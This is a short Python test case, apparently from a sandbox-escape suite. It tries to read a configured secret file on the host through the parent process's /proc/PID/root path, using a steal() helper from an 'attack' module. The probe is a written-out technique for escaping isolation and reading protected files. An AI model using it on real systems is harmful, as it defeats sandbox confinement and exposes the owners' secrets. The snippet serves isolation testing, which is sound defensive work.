# tries: reach the host's files through the supervisor's /proc/PID/root
from attack import *
steal("/proc/%d/root%s" % (os.getppid(), V["secret_file"]))
